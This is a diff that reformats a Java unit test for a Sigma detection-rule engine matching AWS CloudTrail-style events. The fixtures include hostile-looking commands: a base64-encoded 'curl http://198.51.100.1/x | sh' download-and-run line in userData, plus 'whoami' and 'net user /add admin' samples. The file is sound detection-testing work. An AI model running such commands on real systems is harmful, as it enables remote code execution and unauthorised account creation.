@@ -13,12 +13,13 @@ import java.util.Map;
 import org.junit.jupiter.api.Test;
 
 /**
- * Selections over events given as JSON. A view of typed records runs these same cases by
- * overriding {@link #event(String)}: every match is then checked against the JSON view too.
+ * Selections over events given as JSON. A view of typed records runs these same cases by overriding
+ * {@link #event(String)}: every match is then checked against the JSON view too.
  */
 public class FieldMatchingTest {
 
-  private static final String LOGIN = """
+  private static final String LOGIN =
+      """
       {"eventID": "e1", "eventTime": "2024-01-01T00:00:00Z", "eventName": "ConsoleLogin",
        "eventSource": "signin.amazonaws.com", "sourceIPAddress": "203.0.113.7",
        "userAgent": "Mozilla/5.0 (X11) Firefox/120.0",
@@ -30,76 +31,99 @@ public class FieldMatchingTest {
 
   @Test
   void plainValuesCompareCaseInsensitively() {
-    SigmaRule rule = rule("""
-          selection:
-            eventName: 'consolelogin'
-            additionalEventData.MFAUsed: 'NO'
-            responseElements.ConsoleLogin: 'SUCCESS'
-          condition: selection
-        """);
+    SigmaRule rule =
+        rule(
+            """
+              selection:
+                eventName: 'consolelogin'
+                additionalEventData.MFAUsed: 'NO'
+                responseElements.ConsoleLogin: 'SUCCESS'
+              condition: selection
+            """);
     assertThat(rule.matches(event(LOGIN))).isTrue();
     assertThat(rule.matches(jsonEvent(LOGIN))).isTrue();
   }
 
   @Test
   void casedModifierMakesComparisonCaseSensitive() {
-    SigmaRule rule = rule("""
-          selection:
-            additionalEventData.MFAUsed|cased: 'NO'
-          condition: selection
-        """);
+    SigmaRule rule =
+        rule(
+            """
+              selection:
+                additionalEventData.MFAUsed|cased: 'NO'
+              condition: selection
+            """);
     assertThat(rule.matches(event(LOGIN))).isFalse();
-    assertThat(rule("""
-          selection:
-            additionalEventData.MFAUsed|cased: 'No'
-          condition: selection
-        """).matches(event(LOGIN))).isTrue();
+    assertThat(
+            rule("""
+              selection:
+                additionalEventData.MFAUsed|cased: 'No'
+              condition: selection
+            """)
+                .matches(event(LOGIN)))
+        .isTrue();
   }
 
   @Test
   void multiFieldSelectionRequiresEveryField() {
     // Defect of the existing Kafka Streams engine: only the last field of a map counted.
-    SigmaRule rule = rule("""
-          selection:
-            eventName: ConsoleLogin
-            userIdentity.type: Root
-          condition: selection
-        """);
+    SigmaRule rule =
+        rule(
+            """
+              selection:
+                eventName: ConsoleLogin
+                userIdentity.type: Root
+              condition: selection
+            """);
     assertThat(rule.matches(event(LOGIN))).isFalse();
-    SigmaRule reversed = rule("""
-          selection:
-            userIdentity.type: Root
-            eventName: ConsoleLogin
-          condition: selection
-        """);
+    SigmaRule reversed =
+        rule(
+            """
+              selection:
+                userIdentity.type: Root
+                eventName: ConsoleLogin
+              condition: selection
+            """);
     assertThat(reversed.matches(event(LOGIN))).isFalse();
-    assertThat(rule("""
-          selection:
-            userIdentity.type: IAMUser
-            eventName: ConsoleLogin
-          condition: selection
-        """).matches(event(LOGIN))).isTrue();
+    assertThat(
+            rule("""
+              selection:
+                userIdentity.type: IAMUser
+                eventName: ConsoleLogin
+              condition: selection
+            """)
+                .matches(event(LOGIN)))
+        .isTrue();
   }
 
   @Test
   void listOfValuesIsAnyAndListOfMapsIsAny() {
-    assertThat(rule("""
-          selection:
-            eventName: [StopLogging, ConsoleLogin]
-          condition: selection
-        """).matches(event(LOGIN))).isTrue();
-    assertThat(rule("""
-          selection:
-            - eventName: StopLogging
-            - userIdentity.userName: alice
-          condition: selection
-        """).matches(event(LOGIN))).isTrue();
-    assertThat(rule("""
-          selection:
-            - eventName: StopLogging
-            - userIdentity.userName: bob
-          condition: selection
-        """).matches(event(LOGIN))).isFalse();
+    assertThat(
+            rule("""
+              selection:
+                eventName: [StopLogging, ConsoleLogin]
+              condition: selection
+            """)
+                .matches(event(LOGIN)))
+        .isTrue();
+    assertThat(
+            rule("""
+              selection:
+                - eventName: StopLogging
+                - userIdentity.userName: alice
+              condition: selection
+            """)
+                .matches(event(LOGIN)))
+        .isTrue();
+    assertThat(
+            rule("""
+              selection:
+                - eventName: StopLogging
+                - userIdentity.userName: bob
+              condition: selection
+            """)
+                .matches(event(LOGIN)))
+        .isFalse();
   }
 
   @Test
@@ -107,7 +131,8 @@ public class FieldMatchingTest {
     assertThat(matches("userAgent: 'Mozilla*Firefox/1?0.0'", LOGIN)).isTrue();
     assertThat(matches("userAgent: 'Mozilla*Chrome*'", LOGIN)).isFalse();
     assertThat(matches("eventName: 'Console?ogin'", LOGIN)).isTrue();
-    String star = """
+    String star =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s", "userAgent": "a*b?c\\\\d"}
         """;
     assertThat(matches("userAgent: 'a\\*b\\?c\\\\d'", star)).isTrue();
@@ -145,7 +170,8 @@ public class FieldMatchingTest {
   void nullMatchesAnAbsentFieldOrAJsonNull() {
     assertThat(matches("errorCode: null", LOGIN)).isTrue();
     assertThat(matches("eventName: null", LOGIN)).isFalse();
-    String withNull = """
+    String withNull =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s",
          "requestParameters": {"policy": null, "name": "n"}}
         """;
@@ -157,7 +183,8 @@ public class FieldMatchingTest {
 
   @Test
   void emptyStringMatchesOnlyAnEmptyValue() {
-    String empty = """
+    String empty =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s", "userAgent": ""}
         """;
     assertThat(matches("userAgent: ''", empty)).isTrue();
@@ -169,7 +196,8 @@ public class FieldMatchingTest {
     assertThat(matches("userIdentity.arn|re: ':user/al[a-z]+$'", LOGIN)).isTrue();
     assertThat(matches("userIdentity.arn|re: ':USER/AL[a-z]+$'", LOGIN)).isFalse();
     assertThat(matches("userIdentity.arn|re|i: ':USER/AL[a-z]+$'", LOGIN)).isTrue();
-    String multiline = """
+    String multiline =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s", "userAgent": "one\\ntwo"}
         """;
     assertThat(matches("userAgent|re: '^two$'", multiline)).isFalse();
@@ -188,7 +216,8 @@ public class FieldMatchingTest {
     assertThat(RegexLiteral.longestRequired("(optional-text)?xy")).isEqualTo("xy");
     assertThat(RegexLiteral.longestRequired("[abc]+\\.example\\.com$")).isEqualTo(".example.com");
     assertThat(RegexLiteral.longestRequired("\\d+-\\w+")).isEqualTo("-");
-    String assumed = """
+    String assumed =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s",
          "userIdentity": {"arn": "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1"}}
         """;
@@ -204,9 +233,9 @@ public class FieldMatchingTest {
     assertThat(matches("sourceIPAddress|cidr: '203.0.113.0/24'", LOGIN)).isTrue();
     assertThat(matches("sourceIPAddress|cidr: '203.0.112.0/24'", LOGIN)).isFalse();
     assertThat(matches("sourceIPAddress|cidr: '0.0.0.0/0'", LOGIN)).isTrue();
-    assertThat(matches("sourceIPAddress|cidr: ['10.0.0.0/8', '203.0.113.7/32']", LOGIN))
-        .isTrue();
-    String v6 = """
+    assertThat(matches("sourceIPAddress|cidr: ['10.0.0.0/8', '203.0.113.7/32']", LOGIN)).isTrue();
+    String v6 =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s",
          "sourceIPAddress": "2001:db8:0:1::42"}
         """;
@@ -215,7 +244,8 @@ public class FieldMatchingTest {
     assertThat(matches("sourceIPAddress|cidr: '::/0'", v6)).isTrue();
     assertThat(matches("sourceIPAddress|cidr: '0.0.0.0/0'", v6)).isFalse();
     assertThat(matches("sourceIPAddress|cidr: '::/0'", LOGIN)).isFalse();
-    String service = """
+    String service =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s",
          "sourceIPAddress": "cloudtrail.amazonaws.com"}
         """;
@@ -232,7 +262,8 @@ public class FieldMatchingTest {
 
   @Test
   void numericComparisonsCompareNumbersNotText() {
-    String flowish = """
+    String flowish =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s",
          "requestParameters": {"fromPort": 22, "toPort": "1024", "size": 9.5}}
         """;
@@ -248,7 +279,8 @@ public class FieldMatchingTest {
 
   @Test
   void booleansCompareAsTrueAndFalse() {
-    String json = """
+    String json =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s", "readOnly": false,
          "requestParameters": {"enable": false}}
         """;
@@ -260,9 +292,13 @@ public class FieldMatchingTest {
 
   @Test
   void base64MatchesTheEncodedValue() {
-    String encoded = Base64.getEncoder().encodeToString("curl evil".getBytes(StandardCharsets.UTF_8));
-    String json = "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
-        + " \"requestParameters\": {\"userData\": \"" + encoded + "\"}}";
+    String encoded =
+        Base64.getEncoder().encodeToString("curl evil".getBytes(StandardCharsets.UTF_8));
+    String json =
+        "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
+            + " \"requestParameters\": {\"userData\": \""
+            + encoded
+            + "\"}}";
     assertThat(matches("requestParameters.userData|base64: 'curl evil'", json)).isTrue();
     assertThat(matches("requestParameters.userData|base64: 'curl good'", json)).isFalse();
   }
@@ -272,14 +308,26 @@ public class FieldMatchingTest {
     for (String prefix : List.of("", "a", "ab", "abc", "#!/bin/bash\n")) {
       String plain = prefix + "curl http://198.51.100.1/x | sh" + " tail";
       String encoded = Base64.getEncoder().encodeToString(plain.getBytes(StandardCharsets.UTF_8));
-      String json = "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
-          + " \"requestParameters\": {\"userData\": \"" + encoded + "\"}}";
-      assertThat(matches("requestParameters.userData|base64offset|contains: 'http://198.51.100.1'",
-          json)).as("prefix '%s'", prefix).isTrue();
-      assertThat(matches("requestParameters.userData|base64offset|contains: 'http://203.0.113.9'",
-          json)).as("prefix '%s'", prefix).isFalse();
-      assertThat(matches("requestParameters.userData|base64offset|contains: 'HTTP://198.51.100.1'",
-          json)).as("base64 is compared case-sensitively").isFalse();
+      String json =
+          "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
+              + " \"requestParameters\": {\"userData\": \""
+              + encoded
+              + "\"}}";
+      assertThat(
+              matches(
+                  "requestParameters.userData|base64offset|contains: 'http://198.51.100.1'", json))
+          .as("prefix '%s'", prefix)
+          .isTrue();
+      assertThat(
+              matches(
+                  "requestParameters.userData|base64offset|contains: 'http://203.0.113.9'", json))
+          .as("prefix '%s'", prefix)
+          .isFalse();
+      assertThat(
+              matches(
+                  "requestParameters.userData|base64offset|contains: 'HTTP://198.51.100.1'", json))
+          .as("base64 is compared case-sensitively")
+          .isFalse();
     }
   }
 
@@ -287,8 +335,11 @@ public class FieldMatchingTest {
   void wideEncodesAsUtf16LittleEndianBeforeBase64() {
     byte[] utf16 = "whoami".getBytes(StandardCharsets.UTF_16LE);
     String encoded = Base64.getEncoder().encodeToString(utf16);
-    String json = "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
-        + " \"requestParameters\": {\"command\": \"" + encoded + "\"}}";
+    String json =
+        "{\"eventID\": \"e\", \"eventName\": \"x\", \"eventSource\": \"s\","
+            + " \"requestParameters\": {\"command\": \""
+            + encoded
+            + "\"}}";
     assertThat(matches("requestParameters.command|wide|base64: 'whoami'", json)).isTrue();
     assertThat(matches("requestParameters.command|utf16le|base64: 'whoami'", json)).isTrue();
     assertThat(matches("requestParameters.command|base64: 'whoami'", json)).isFalse();
@@ -296,7 +347,8 @@ public class FieldMatchingTest {
 
   @Test
   void windashMatchesAnyDashOrSlashBeforeAFlag() {
-    String json = """
+    String json =
+        """
         {"eventID": "e", "eventName": "x", "eventSource": "s",
          "requestParameters": {"commandLine": "net user /add admin"}}
         """;
@@ -308,33 +360,43 @@ public class FieldMatchingTest {
   void expandFillsPlaceholdersFromConfiguration() {
     Map<String, List<String>> placeholders =
         Map.of("admins", List.of("arn:aws:iam::*:user/alice", "arn:aws:iam::*:user/root-ops"));
-    SigmaRule rule = rule("""
-          selection:
-            userIdentity.arn|expand: '%admins%'
-          condition: selection
-        """, placeholders);
+    SigmaRule rule =
+        rule(
+            """
+              selection:
+                userIdentity.arn|expand: '%admins%'
+              condition: selection
+            """,
+            placeholders);
     assertThat(rule.matches(event(LOGIN))).isTrue();
-    SigmaRule others = rule("""
-          selection:
-            userIdentity.arn|expand: '%admins%'
-          condition: not selection
-        """, Map.of("admins", List.of("arn:aws:iam::*:user/bob")));
+    SigmaRule others =
+        rule(
+            """
+              selection:
+                userIdentity.arn|expand: '%admins%'
+              condition: not selection
+            """,
+            Map.of("admins", List.of("arn:aws:iam::*:user/bob")));
     assertThat(others.matches(event(LOGIN))).isTrue();
   }
 
   @Test
   void expandWithCidrComparesEveryConfiguredNetwork() {
-    SigmaRule rule = rule("""
-          selection:
-            sourceIPAddress|expand|cidr: '%threat_intel%'
-          condition: selection
-        """, Map.of("threat_intel", List.of("192.0.2.0/24", "203.0.113.0/28")));
+    SigmaRule rule =
+        rule(
+            """
+              selection:
+                sourceIPAddress|expand|cidr: '%threat_intel%'
+              condition: selection
+            """,
+            Map.of("threat_intel", List.of("192.0.2.0/24", "203.0.113.0/28")));
     assertThat(rule.matches(event(LOGIN))).isTrue();
   }
 
   @Test
   void fieldrefComparesTwoFieldsOfTheEvent() {
-    String self = """
+    String self =
+        """
         {"eventID": "e", "eventName": "UpdateLoginProfile", "eventSource": "iam.amazonaws.com",
          "userIdentity": {"type": "IAMUser", "userName": "alice"},
          "requestParameters": {"userName": "ALICE"}}
@@ -349,28 +411,37 @@ public class FieldMatchingTest {
 
   @Test
   void keywordListsSearchTheWholeRawEvent() {
-    SigmaRule rule = rule("""
-          keywords:
-            - 'console.aws.amazon'
-            - 'nothing-like-this'
-          condition: keywords
-        """);
+    SigmaRule rule =
+        rule(
+            """
+              keywords:
+                - 'console.aws.amazon'
+                - 'nothing-like-this'
+              condition: keywords
+            """);
     assertThat(rule.matches(event(LOGIN))).isTrue();
-    assertThat(rule("""
-          keywords:
-            - 'nothing-like-this'
-          condition: keywords
-        """).matches(event(LOGIN))).isFalse();
-    assertThat(rule("""
-          keywords:
-            '|re': 'user/al[i]ce'
-          condition: keywords
-        """).matches(event(LOGIN))).isTrue();
+    assertThat(
+            rule("""
+              keywords:
+                - 'nothing-like-this'
+              condition: keywords
+            """)
+                .matches(event(LOGIN)))
+        .isFalse();
+    assertThat(
+            rule("""
+              keywords:
+                '|re': 'user/al[i]ce'
+              condition: keywords
+            """)
+                .matches(event(LOGIN)))
+        .isTrue();
   }
 
   @Test
   void pathsThroughArraysMatchWhenAnyElementMatches() {
-    String ingress = """
+    String ingress =
+        """
         {"eventID": "e", "eventName": "AuthorizeSecurityGroupIngress",
          "eventSource": "ec2.amazonaws.com",
          "requestParameters": {"groupId": "sg-1", "ipPermissions": {"items": [
@@ -379,11 +450,16 @@ public class FieldMatchingTest {
              {"cidrIp": "192.168.0.0/16"}, {"cidrIp": "0.0.0.0/0"}]},
             "ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]}}]}}}
         """;
-    assertThat(matches("requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'",
-        ingress)).isTrue();
+    assertThat(
+            matches(
+                "requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'",
+                ingress))
+        .isTrue();
     assertThat(matches("requestParameters.ipPermissions.items.fromPort: 22", ingress)).isTrue();
-    assertThat(matches("requestParameters.ipPermissions.items.ipv6Ranges.items.cidrIpv6: '::/0'",
-        ingress)).isTrue();
+    assertThat(
+            matches(
+                "requestParameters.ipPermissions.items.ipv6Ranges.items.cidrIpv6: '::/0'", ingress))
+        .isTrue();
     assertThat(matches("requestParameters.ipPermissions.items.fromPort: 3389", ingress)).isFalse();
     assertThat(event(ingress).values("requestParameters.ipPermissions.items.ipRanges.items.cidrIp"))
         .containsExactly("10.0.0.0/8", "192.168.0.0/16", "0.0.0.0/0");
@@ -391,7 +467,8 @@ public class FieldMatchingTest {
 
   @Test
   void aWholeFreeFormElementIsSearchedAsItsJsonText() {
-    String versioning = """
+    String versioning =
+        """
         {"eventID": "e", "eventName": "PutBucketVersioning", "eventSource": "s3.amazonaws.com",
          "requestParameters": {"bucketName": "b", "VersioningConfiguration":
            {"Status": "Suspended"}}}
@@ -413,7 +490,8 @@ public class FieldMatchingTest {
     SigmaRule rule = rule("  selection:\n    " + field + "\n  condition: selection\n");
     boolean matched = rule.matches(event(json));
     boolean tree = rule.matches(jsonEvent(json));
-    assertThat(tree).as("JSON view agrees with the view under test for " + field)
+    assertThat(tree)
+        .as("JSON view agrees with the view under test for " + field)
         .isEqualTo(matched);
     return matched;
   }
